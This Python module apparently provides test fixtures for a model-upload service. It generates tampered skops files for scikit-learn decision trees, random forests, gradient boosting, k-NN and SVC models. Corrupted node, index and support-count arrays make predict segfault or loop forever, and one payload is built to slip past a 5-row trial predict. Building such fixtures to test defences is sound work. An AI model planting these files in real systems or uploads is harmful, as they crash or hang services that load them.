"""Crafted skops files that crash or hang scikit-learn's compiled predict code.

Each function returns the bytes of a skops file exactly as an attacker would
upload it: a real model, fitted and then tampered with through the state
scikit-learn itself pickles (``__getstate__``/``__setstate__``, or the plain
arrays skops stores), then written with ``skops.io.dumps``. Every file loads
with ``skops.io.loads`` and names only the types an honest model of its kind
names; only its arrays lie.

Data: every model is fitted on the first 60 rows of
``make_classification(n_samples=120, n_features=4, random_state=0)`` with
feature columns ``x0``..``x3`` and label column ``label`` (0 or 1);
:func:`matching_tables` returns those 60 rows as the training CSV and the
other 60 as the test (non-member) CSV, so any file here can be submitted with
them.

* :func:`tree_left_child_huge`: DecisionTreeClassifier, root's left child 10**12
  (SIGSEGV on the first row that goes left; the first 5 training rows go right).
* :func:`tree_feature_out_of_range`: DecisionTreeClassifier, root splits on
  feature 10**12 (SIGSEGV).
* :func:`tree_negative_child`: DecisionTreeClassifier, root's children -2**40
  (SIGSEGV).
* :func:`tree_cyclic_root`: DecisionTreeClassifier whose root is its own
  child (predict never returns).
* :func:`hgb_node_index_huge`: HistGradientBoostingClassifier, root's children
  of its first tree 10**9 (SIGSEGV).
* :func:`kdtree_index_out_of_range`: KNeighborsClassifier(algorithm="kd_tree")
  whose k-d tree index array points 10**12 rows past its data (SIGSEGV).
* :func:`svc_support_mismatch`: SVC(probability=True), the teaching example's
  kind of model, whose per-class support-vector counts are shifted by 10**8
  with their sum kept (libsvm reads 10**8 rows past its arrays: SIGSEGV).
* :func:`tree_latent_bad_node`: RandomForestClassifier of 5 trees; in tree 3 a
  node that none of the first 5 training rows reach has children 10**12, so a
  trial predict on 5 rows passes and the full predict crashes.
"""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import skops.io
from sklearn.datasets import make_classification
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.neighbors import KNeighborsClassifier
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

LABEL = "label"
FEATURES = ["x0", "x1", "x2", "x3"]
N_TRIAL_ROWS = 5  # rows a trial predict is assumed to use; the latent node avoids them
LATENT_TREE = 3
HUGE = 10**12


def _tables() -> tuple[pd.DataFrame, pd.DataFrame]:
    X, y = make_classification(n_samples=120, n_features=4, random_state=0)
    table = pd.DataFrame(X, columns=FEATURES).assign(**{LABEL: y})
    return table.iloc[:60].reset_index(drop=True), table.iloc[60:].reset_index(drop=True)


def matching_tables() -> tuple[bytes, bytes, str]:
    """(train_csv_bytes, test_csv_bytes, label) that every crafted model expects."""
    train, test = _tables()
    return _csv(train), _csv(test), LABEL


def _csv(table: pd.DataFrame) -> bytes:
    buffer = io.StringIO()
    table.to_csv(buffer, index=False)
    return buffer.getvalue().encode()


def _fitted(model):
    train, _ = _tables()
    return model.fit(train[FEATURES], train[LABEL])


def _retree(tree, **fields) -> None:
    """Rewrite node fields of a ``sklearn.tree._tree.Tree`` through its pickled state."""
    state = tree.__getstate__()
    nodes = state["nodes"].copy()
    for name, (index, value) in fields.items():
        nodes[name][index] = value
    tree.__setstate__({**state, "nodes": nodes})


def _decision_tree(**fields) -> bytes:
    model = _fitted(DecisionTreeClassifier(max_depth=3, random_state=0))
    _retree(model.tree_, **fields)
    return skops.io.dumps(model)


def tree_left_child_huge() -> bytes:
    """A decision tree whose root's left child is node 10**12."""
    return _decision_tree(left_child=(0, HUGE))


def tree_feature_out_of_range() -> bytes:
    """A decision tree whose root splits on feature 10**12 of a 4-feature table."""
    return _decision_tree(feature=(0, HUGE))


def tree_negative_child() -> bytes:
    """A decision tree whose root's children are node -2**40 (not the leaf marker -1)."""
    return _decision_tree(left_child=(0, -(2**40)), right_child=(0, -(2**40)))


def tree_cyclic_root() -> bytes:
    """A decision tree whose root is both its own children: predict loops forever."""
    return _decision_tree(left_child=(0, 0), right_child=(0, 0))


def hgb_node_index_huge() -> bytes:
    """A HistGradientBoosting model whose first tree's root has children 10**9."""
    model = _fitted(HistGradientBoostingClassifier(max_iter=5, random_state=0))
    nodes = model._predictors[0][0].nodes
    nodes["left"][0] = nodes["right"][0] = 10**9
    return skops.io.dumps(model)


def kdtree_index_out_of_range() -> bytes:
    """A k-NN model whose k-d tree index array points 10**12 rows past its data."""
    model = _fitted(KNeighborsClassifier(n_neighbors=3, algorithm="kd_tree"))
    state = list(model._tree.__getstate__())
    state[1] = np.full_like(state[1], HUGE)
    model._tree.__setstate__(tuple(state))
    return skops.io.dumps(model)


def svc_support_mismatch() -> bytes:
    """An SVC whose per-class support counts are shifted by 10**8, keeping their sum.

    scikit-learn's own check (CVE-2020-28975) compares only the sum with the
    number of support vectors, so libsvm is handed class 1's vectors 10**8
    rows past the end of the array.
    """
    model = _fitted(SVC(probability=True, random_state=0))
    shift = np.array([10**8, -(10**8)], dtype=model._n_support.dtype)
    model._n_support = model._n_support + shift
    return skops.io.dumps(model)


def tree_latent_bad_node() -> bytes:
    """A forest with one bad node, in tree 3, that the first 5 training rows never reach."""
    train, _ = _tables()
    model = _fitted(RandomForestClassifier(n_estimators=5, max_depth=6, random_state=0))
    tree = model.estimators_[LATENT_TREE]
    node = _latent_node(tree, train[FEATURES].to_numpy(dtype=np.float32))
    _retree(tree.tree_, left_child=(node, HUGE), right_child=(node, HUGE))
    return skops.io.dumps(model)


def _latent_node(tree, X: np.ndarray) -> int:
    """An inner node some training row reaches but none of the first N_TRIAL_ROWS do."""
    paths = tree.tree_.decision_path(X).toarray().astype(bool)
    trial, rest = paths[:N_TRIAL_ROWS].any(axis=0), paths[N_TRIAL_ROWS:].any(axis=0)
    inner = tree.tree_.children_left != -1
    candidates = np.flatnonzero(inner & rest & ~trial)
    if not candidates.size:
        raise AssertionError("no latent node in this tree: pick another tree or seed")
    return int(candidates[0])


#: Every crafted file, by name, with what an unchecked predict does with it.
CRAFTED = {
    "tree_left_child_huge": (tree_left_child_huge, "crash"),
    "tree_feature_out_of_range": (tree_feature_out_of_range, "crash"),
    "tree_negative_child": (tree_negative_child, "crash"),
    "tree_cyclic_root": (tree_cyclic_root, "hang"),
    "hgb_node_index_huge": (hgb_node_index_huge, "crash"),
    "kdtree_index_out_of_range": (kdtree_index_out_of_range, "crash"),
    "svc_support_mismatch": (svc_support_mismatch, "crash"),
    "tree_latent_bad_node": (tree_latent_bad_node, "crash"),
}
